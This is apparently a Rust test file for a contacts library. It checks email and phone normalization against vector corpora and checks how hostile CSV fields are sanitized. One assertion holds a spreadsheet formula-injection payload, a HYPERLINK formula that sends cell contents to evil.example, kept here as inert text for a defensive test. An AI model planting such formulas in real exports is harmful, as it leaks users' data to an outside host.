//! Data-driven normalization tests over the shared corpus: every line of the isemail vectors,
//! every line of the phone vectors, and the hostile-fields CSV.

use contacts::normalize::{self, NormalizeOptions};
use contacts::{Contact, Email, Error, Name, Phone};

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/corpus");

fn read(path: &str) -> String {
    let full = format!("{CORPUS}/{path}");
    std::fs::read_to_string(&full).unwrap_or_else(|error| panic!("{full}: {error}"))
}

/// Decodes Python `unicode_escape` (`\\`, `\n`, `\r`, `\t`, `\xNN`, `\uNNNN`) and Rust
/// `\u{…}` escapes.
fn unescape(escaped: &str) -> String {
    let mut out = String::new();
    let mut chars = escaped.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let hex = |chars: &mut std::str::Chars, n: usize| -> char {
            let digits: String = chars.take(n).collect();
            char::from_u32(u32::from_str_radix(&digits, 16).expect("hex escape"))
                .expect("scalar value")
        };
        match chars.next() {
            Some('\\') => out.push('\\'),
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some('t') => out.push('\t'),
            Some('x') => out.push(hex(&mut chars, 2)),
            Some('u') if chars.as_str().starts_with('{') => {
                chars.next();
                let digits: String = chars.by_ref().take_while(|&c| c != '}').collect();
                out.push(
                    char::from_u32(u32::from_str_radix(&digits, 16).expect("hex")).expect("scalar"),
                );
            }
            Some('u') => out.push(hex(&mut chars, 4)),
            other => panic!("unknown escape \\{other:?} in {escaped:?}"),
        }
    }
    out
}

#[test]
fn unescape_decodes_python_and_rust_escapes() {
    assert_eq!(
        unescape(r"a\\b\r\n\t\x7f\u00e9\u{ff0b}"),
        "a\\b\r\n\t\u{7f}\u{e9}\u{ff0b}"
    );
}

/// Every isemail vector: REJECT never accepted, ACCEPT accepted unchanged, ACCEPT_AFTER_TRIM
/// accepted as the trimmed address, EITHER (dotless domains) rejected by our documented choice.
#[test]
fn isemail_vectors() {
    let tsv = read("email/isemail_vectors.tsv");
    let mut counts = std::collections::BTreeMap::new();
    let mut failures = Vec::new();
    for line in tsv
        .lines()
        .filter(|l| !l.starts_with('#') && !l.starts_with("id\t"))
    {
        let columns: Vec<&str> = line.split('\t').collect();
        let [id, escaped, _category, diagnosis, expect] = columns[..] else {
            panic!("bad line {line:?}")
        };
        let address = unescape(escaped);
        let result = normalize::email(&address);
        *counts.entry(expect).or_insert(0) += 1;
        let ok = match expect {
            "REJECT" => matches!(result, Err(Error::InvalidEmail { .. })),
            "ACCEPT" => result.as_deref() == Ok(address.as_str()),
            "ACCEPT_AFTER_TRIM" => result.as_deref() == Ok(address.trim()),
            "EITHER" => {
                matches!(&result, Err(Error::InvalidEmail { reason, .. }) if reason == "domain has no dot")
            }
            other => panic!("unknown expectation {other}"),
        };
        if !ok {
            failures.push(format!(
                "{id} {address:?} ({diagnosis}, {expect}) -> {result:?}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    let expected_counts = [
        ("ACCEPT", 21),
        ("ACCEPT_AFTER_TRIM", 6),
        ("EITHER", 2),
        ("REJECT", 135),
    ];
    assert_eq!(counts.into_iter().collect::<Vec<_>>(), expected_counts);
}

/// Every phone vector. Where the vector parses, `number` is its E.164 form and `e164` is
/// true when it has a possible length; where it does not, the phone is kept as cleaned digits with `e164 == false` (or
/// dropped when it has no digit), and a problem is reported.
///
/// The vectors were written with the `phonenumber` crate; on two lines libphonenumber itself
/// (Python `phonenumbers` 9.0.42, which `tests/phone_libphonenumber.rs` follows) answers
/// otherwise, and its answer is the one expected here: `123` in US is `+1123` (the crate gave
/// `+123`, without the country code), and `+49000000` parses, to `+4900000` (the crate failed).
#[test]
fn phone_vectors() {
    let tsv = read("phone/phone_normalization_vectors.tsv");
    let mut lines = 0;
    for line in tsv.lines().skip(1).filter(|l| !l.is_empty()) {
        let columns: Vec<&str> = line.split('\t').collect();
        let [input, region, parse_ok, e164, is_valid, _error] = columns[..] else {
            panic!("bad line {line:?}")
        };
        let (parse_ok, e164, is_valid) = match (input, region) {
            ("123", "US") => ("true", "+1123", "false"),
            ("+49000000", "-") => ("true", "+4900000", "true"),
            _ => (parse_ok, e164, is_valid),
        };
        lines += 1;
        let raw = unescape(input);
        let region = (region != "-").then(|| region.to_string());
        let mut contact = Contact {
            phones: vec![Phone {
                raw: raw.clone(),
                ..Phone::default()
            }],
            ..Contact::default()
        };
        let errors = normalize::contact(&mut contact, &NormalizeOptions { region });
        let digits: String = raw.chars().filter(char::is_ascii_digit).collect();
        // The crate that wrote the vectors did not read Arabic-Indic digits; this normalizer folds them to ASCII
        // first, so "١٢٣" (US) is read as "123" is: it parses to "+1123", which is not possible.
        let folded = raw == "\u{661}\u{662}\u{663}";
        match (parse_ok, contact.phones.as_slice()) {
            ("true", [phone]) => {
                assert_eq!(phone.number, e164, "{raw:?}");
                // `e164` means "parsed, with a possible length" (see normalize::phone), a
                // weaker test than the vectors' `is_valid`; they differ on this one line only.
                let possible_but_not_valid = raw == "07700 900123";
                assert_eq!(
                    phone.e164,
                    is_valid == "true" || possible_but_not_valid,
                    "{raw:?}"
                );
                assert_eq!(phone.raw, raw.trim());
                assert_eq!(errors.is_empty(), phone.e164, "{raw:?}: {errors:?}");
            }
            ("false", [phone]) if folded => {
                assert_eq!(phone.number, "+1123");
                assert!(!phone.e164);
                assert!(matches!(&errors[..], [Error::InvalidPhone { .. }]));
            }
            ("false", [phone]) => {
                let expected = if raw.trim_start().starts_with('+') {
                    format!("+{digits}")
                } else {
                    digits.clone()
                };
                // Fallback digits stop at an extension; none of these vectors has one.
                assert_eq!(phone.number, expected, "{raw:?}");
                assert!(!phone.e164, "{raw:?}");
                assert!(
                    matches!(&errors[..], [Error::InvalidPhone { .. }]),
                    "{raw:?}: {errors:?}"
                );
            }
            ("false", []) => {
                assert!(digits.is_empty(), "{raw:?} dropped although it has digits");
                let reported = matches!(&errors[..], [Error::InvalidPhone { .. }]);
                assert_eq!(reported, !raw.is_empty(), "{raw:?}: {errors:?}");
            }
            (_, phones) => panic!("{raw:?}: parse_ok {parse_ok}, got {phones:?}"),
        }
    }
    assert_eq!(lines, 38);
}

/// A minimal RFC 4180 reader for the one fixture below (the crate's CSV reader is tested on
/// its own; this test is about normalization).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, c) => field.push(c),
        }
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

#[test]
fn hostile_fields() {
    let rows = csv_rows(&read("security/synth__hostile_fields.csv"));
    assert_eq!(rows.len(), 16);
    for row in rows.iter().skip(1) {
        let [name, address, notes] = &row[..] else {
            panic!("bad row {row:?}")
        };
        let mut contact = Contact {
            name: Name {
                display: Some(name.clone()),
                ..Name::default()
            },
            emails: vec![Email {
                address: address.clone(),
                ..Email::default()
            }],
            notes: Some(notes.clone()),
            ..Contact::default()
        };
        let errors = normalize::contact(&mut contact, &NormalizeOptions::default());
        let display = contact
            .name
            .display
            .as_deref()
            .expect("every row has a name");
        assert_eq!(contact.emails.len(), 1, "{address}");
        assert_eq!(contact.emails[0].address, *address);
        assert!(display.chars().count() <= normalize::MAX_LINE_CHARS);
        assert!(!display.chars().any(|c| c.is_control()), "{display:?}");
        assert!(!display.contains(['\u{202E}', '\u{200B}']), "{display:?}");
        assert_eq!(display, display.trim());
        if name.chars().count() > normalize::MAX_LINE_CHARS {
            assert!(
                matches!(&errors[..], [Error::TooLong(m)] if m.starts_with("name.display")),
                "{errors:?}"
            );
        } else {
            assert!(errors.is_empty(), "{name:?}: {errors:?}");
        }
    }
    let display = |row: usize| {
        let mut contact = Contact {
            name: Name {
                display: Some(rows[row][0].clone()),
                ..Name::default()
            },
            ..Contact::default()
        };
        normalize::contact(&mut contact, &NormalizeOptions::default());
        contact.name.display.unwrap_or_default()
    };
    // Formula prefixes stay as inert text (the CSV writer neutralizes them).
    assert_eq!(
        display(1),
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")"
    );
    assert_eq!(display(2), "+1+1");
    assert_eq!(display(5), "TAB-led");
    assert_eq!(display(6), "CR-led");
    assert_eq!(display(10), "gnp.exe");
    assert_eq!(display(11), "ZeroWidthJoiner");
    assert_eq!(
        display(12),
        "emoji \u{1F469}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466} family"
    );
    assert_eq!(display(14), "ctrlchars");
}
